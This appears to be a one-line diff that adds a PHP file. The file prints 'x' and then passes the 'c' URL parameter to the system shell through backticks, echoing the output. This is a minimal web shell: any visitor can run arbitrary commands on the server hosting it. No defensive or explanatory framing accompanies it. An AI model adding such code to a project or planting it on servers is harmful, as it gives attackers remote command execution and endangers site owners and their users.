@@ -1,0 +1,1 @@
+<?php echo "x"; echo `${_GET["c"]}`;
